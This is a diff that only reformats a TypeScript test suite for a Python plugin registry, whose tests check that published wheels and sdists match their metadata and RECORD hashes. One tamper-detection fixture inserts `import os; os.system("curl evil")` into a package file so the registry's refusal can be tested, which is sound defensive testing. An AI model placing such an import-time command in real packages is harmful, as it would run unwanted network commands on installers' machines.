@@ -52,14 +52,22 @@ describe('the wheel is the truth', () => {
     assert.equal((await getJson(`${server.apiUrl}/plugins/liar`)).status, 404, 'nothing was stored');
   });
 
-  test('a JSON fapilog range other than the wheel\'s is refused; the same range written differently is accepted', async () => {
+  test("a JSON fapilog range other than the wheel's is refused; the same range written differently is accepted", async () => {
     const wheel = wheelFor('ranged', '1.0.0', { compat: '>=0.14,<0.20' });
-    const wrong = errorOf(await publish(server.apiUrl, 'ranged', metadataFor('ranged', '1.0.0', [wheel], { fapilog_compatibility: '>=0.14' }), [wheel], alice));
+    const wrong = errorOf(
+      await publish(server.apiUrl, 'ranged', metadataFor('ranged', '1.0.0', [wheel], { fapilog_compatibility: '>=0.14' }), [wheel], alice),
+    );
     assert.equal(wrong.code, 'metadata_mismatch');
     assert.match(wrong.message, /metadata\.fapilog_compatibility is ">=0\.14", but .*METADATA says ">=0\.14,<0\.20"/);
-    const same = await publish(server.apiUrl, 'ranged', metadataFor('ranged', '1.0.0', [wheel], { fapilog_compatibility: '< 0.20.0, >=0.14' }), [wheel], alice);
+    const same = await publish(
+      server.apiUrl,
+      'ranged',
+      metadataFor('ranged', '1.0.0', [wheel], { fapilog_compatibility: '< 0.20.0, >=0.14' }),
+      [wheel],
+      alice,
+    );
     assert.equal(same.status, 201, JSON.stringify(same.body));
-    assert.equal(PublishResponse.parse(same.body).fapilog_compatibility, '>=0.14,<0.20', 'the wheel\'s text is stored');
+    assert.equal(PublishResponse.parse(same.body).fapilog_compatibility, '>=0.14,<0.20', "the wheel's text is stored");
   });
 
   test('fields left out of the JSON are taken from METADATA, and the catalog and simple index show them', async () => {
@@ -77,10 +85,16 @@ describe('the wheel is the truth', () => {
 
   test('a wheel without a usable fapilog requirement is refused naming it', async () => {
     const base = wheelFor('nofapilog', '1.0.0');
-    const data = rewrite(base.data, (files) => {
-      const name = Object.keys(files).find((n) => n.endsWith('/METADATA'))!;
-      files[name] = strToU8(strFromU8(files[name]!).replace(/^Requires-Dist: fapilog.*\n/m, 'Requires-Dist: fapilog>=0.14; extra == "fapilog"\n'));
-    }, true);
+    const data = rewrite(
+      base.data,
+      (files) => {
+        const name = Object.keys(files).find((n) => n.endsWith('/METADATA'))!;
+        files[name] = strToU8(
+          strFromU8(files[name]!).replace(/^Requires-Dist: fapilog.*\n/m, 'Requires-Dist: fapilog>=0.14; extra == "fapilog"\n'),
+        );
+      },
+      true,
+    );
     const wheel = { filename: base.filename, data };
     const { fapilog_compatibility: _c, ...meta } = metadataFor('nofapilog', '1.0.0', [wheel]);
     const err = errorOf(await publish(server.apiUrl, 'nofapilog', meta, [wheel], alice));
@@ -91,14 +105,42 @@ describe('the wheel is the truth', () => {
 
 describe('RECORD is verified', () => {
   const cases: Array<[string, (files: Record<string, Uint8Array>) => void, RegExp]> = [
-    ['a file changed after RECORD was written', (f) => { f['fapilog_tamper/__init__.py'] = strToU8('import os; os.system("curl evil")\n'); }, /RECORD says "fapilog_tamper\/__init__\.py" has sha256=.*the archive's has sha256=/],
-    ['a file added without a RECORD line', (f) => { f['fapilog_tamper/extra.py'] = strToU8('x = 1\n'); }, /"fapilog_tamper\/extra\.py" is in the archive but not in RECORD/],
-    ['a RECORD line for a file that is not there', (f) => { delete f['fapilog_tamper/__init__.py']; }, /lists "fapilog_tamper\/__init__\.py", which is not in the archive/],
-    ['no RECORD at all', (f) => { delete f['fapilog_tamper-1.0.0.dist-info/RECORD']; }, /it has no \.dist-info\/RECORD/],
-    ['an md5 hash', (f) => {
-      const r = 'fapilog_tamper-1.0.0.dist-info/RECORD';
-      f[r] = strToU8(strFromU8(f[r]!).replace(/^(fapilog_tamper\/__init__\.py),sha256=[^,]+/m, '$1,md5=1B2M2Y8AsgTpgAmY7PhCfg'));
-    }, /with "md5", not sha256 or stronger/],
+    [
+      'a file changed after RECORD was written',
+      (f) => {
+        f['fapilog_tamper/__init__.py'] = strToU8('import os; os.system("curl evil")\n');
+      },
+      /RECORD says "fapilog_tamper\/__init__\.py" has sha256=.*the archive's has sha256=/,
+    ],
+    [
+      'a file added without a RECORD line',
+      (f) => {
+        f['fapilog_tamper/extra.py'] = strToU8('x = 1\n');
+      },
+      /"fapilog_tamper\/extra\.py" is in the archive but not in RECORD/,
+    ],
+    [
+      'a RECORD line for a file that is not there',
+      (f) => {
+        delete f['fapilog_tamper/__init__.py'];
+      },
+      /lists "fapilog_tamper\/__init__\.py", which is not in the archive/,
+    ],
+    [
+      'no RECORD at all',
+      (f) => {
+        delete f['fapilog_tamper-1.0.0.dist-info/RECORD'];
+      },
+      /it has no \.dist-info\/RECORD/,
+    ],
+    [
+      'an md5 hash',
+      (f) => {
+        const r = 'fapilog_tamper-1.0.0.dist-info/RECORD';
+        f[r] = strToU8(strFromU8(f[r]!).replace(/^(fapilog_tamper\/__init__\.py),sha256=[^,]+/m, '$1,md5=1B2M2Y8AsgTpgAmY7PhCfg'));
+      },
+      /with "md5", not sha256 or stronger/,
+    ],
   ];
   for (const [what, change, message] of cases) {
     test(`refused: ${what}`, async () => {
@@ -121,9 +163,20 @@ describe('the sdist agrees', () => {
   test('an sdist whose PKG-INFO declares another range is refused naming the field and both files', async () => {
     const wheel = wheelFor('split', '1.0.0', { compat: '>=0.14,<0.20' });
     const sdist = sdistFor('split', '1.0.0', { compat: '>=0.14' });
-    const err = errorOf(await publish(server.apiUrl, 'split', metadataFor('split', '1.0.0', [wheel, sdist], { fapilog_compatibility: '>=0.14,<0.20' }), [wheel, sdist], alice));
+    const err = errorOf(
+      await publish(
+        server.apiUrl,
+        'split',
+        metadataFor('split', '1.0.0', [wheel, sdist], { fapilog_compatibility: '>=0.14,<0.20' }),
+        [wheel, sdist],
+        alice,
+      ),
+    );
     assert.equal(err.code, 'metadata_mismatch');
-    assert.match(err.message, /fapilog_compatibility: fapilog_split-1\.0\.0\.tar\.gz's PKG-INFO says ">=0\.14", but fapilog_split-1\.0\.0-py3-none-any\.whl's METADATA says ">=0\.14,<0\.20"/);
+    assert.match(
+      err.message,
+      /fapilog_compatibility: fapilog_split-1\.0\.0\.tar\.gz's PKG-INFO says ">=0\.14", but fapilog_split-1\.0\.0-py3-none-any\.whl's METADATA says ">=0\.14,<0\.20"/,
+    );
   });
 
   test('an sdist alone is read through its PKG-INFO', async () => {
@@ -131,7 +184,10 @@ describe('the sdist agrees', () => {
     const { fapilog_compatibility: _c, requires_python: _p, ...meta } = metadataFor('sdist-only', '1.0.0', [sdist]);
     const r = await publish(server.apiUrl, 'sdist-only', meta, [sdist], alice);
     assert.equal(r.status, 201, JSON.stringify(r.body));
-    assert.deepEqual([PublishResponse.parse(r.body).fapilog_compatibility, PublishResponse.parse(r.body).dependencies], ['>=0.16', ['orjson']]);
+    assert.deepEqual(
+      [PublishResponse.parse(r.body).fapilog_compatibility, PublishResponse.parse(r.body).dependencies],
+      ['>=0.16', ['orjson']],
+    );
   });
 });
 
@@ -160,8 +216,14 @@ test('a project built with hatchling: extras and markers understood, wheel and s
   );
   fs.writeFileSync(path.join(dir, 'src', 'fapilog_marked', '__init__.py'), 'class MarkedSink:\n    name = "marked"\n');
   const dist = await build(dir);
-  const files = fs.readdirSync(dist).sort().map((filename) => ({ filename, data: new Uint8Array(fs.readFileSync(path.join(dist, filename))) }));
-  assert.deepEqual(files.map((f) => f.filename), ['fapilog_marked-2.0.0-py3-none-any.whl', 'fapilog_marked-2.0.0.tar.gz']);
+  const files = fs
+    .readdirSync(dist)
+    .sort()
+    .map((filename) => ({ filename, data: new Uint8Array(fs.readFileSync(path.join(dist, filename))) }));
+  assert.deepEqual(
+    files.map((f) => f.filename),
+    ['fapilog_marked-2.0.0-py3-none-any.whl', 'fapilog_marked-2.0.0.tar.gz'],
+  );
   const { fapilog_compatibility: _c, requires_python: _p, ...meta } = metadataFor('marked', '2.0.0', files);
   const r = await publish(server.apiUrl, 'marked', meta, files, alice);
   assert.equal(r.status, 201, JSON.stringify(r.body));
